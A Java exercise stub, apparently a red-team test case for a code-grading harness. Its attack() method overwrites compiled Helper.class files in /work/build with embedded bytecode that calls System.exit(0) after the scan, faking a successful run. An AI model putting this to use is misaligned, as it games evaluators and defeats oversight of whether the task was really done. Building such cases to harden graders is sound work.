package dev.amdahl.exercises.processes;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;

/** Red-team case: swaps its own class file after the scan. */
public final class Subprocess {

    private Subprocess() {
    }

    public static int call(List<String> command) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    public static CompletedProcess run(List<String> command) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    public static CompletedProcess run(List<String> command, Path workingDirectory,
            Map<String, String> extraEnvironment) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    public static CompletedProcess run(List<String> command, Duration timeout) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    static void attack() throws Exception {
        try (var walk = java.nio.file.Files.walk(java.nio.file.Path.of("/work/build"))) {
            for (var file : walk.filter(p -> p.toString().endsWith("Helper.class")).toList()) {
                java.nio.file.Files.write(file, java.util.Base64.getDecoder().decode(EVIL_HELPER));
            }
        }
        Helper.go();
    }

    /** Helper.class compiled from a Helper whose go() calls System.exit(0). */
    static final String EVIL_HELPER = "yv66vgAAAEEAFQoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWCgAIAAkHAAoMAAsADAEA"
            + "EGphdmEvbGFuZy9TeXN0ZW0BAARleGl0AQAEKEkpVgcADgEAJWRldi9hbWRhaGwvZXhlcmNpc2VzL3Byb2Nlc3Nlcy9IZWxw"
            + "ZXIBAARDb2RlAQAPTGluZU51bWJlclRhYmxlAQACZ28BAAMoKUkBAApTb3VyY2VGaWxlAQALSGVscGVyLmphdmEAMAANAAIA"
            + "AAAAAAIAAAAFAAYAAQAPAAAAHQABAAEAAAAFKrcAAbEAAAABABAAAAAGAAEAAAADAAgAEQASAAEADwAAACIAAQAAAAAABgO4"
            + "AAcDrAAAAAEAEAAAAAoAAgAAAAUABAAGAAEAEwAAAAIAFA==";

    public static CompletedProcess shell(String commandLine) throws Exception {
        throw new UnsupportedOperationException("TODO: implement Subprocess.shell (see the exercise README)");
    }
}
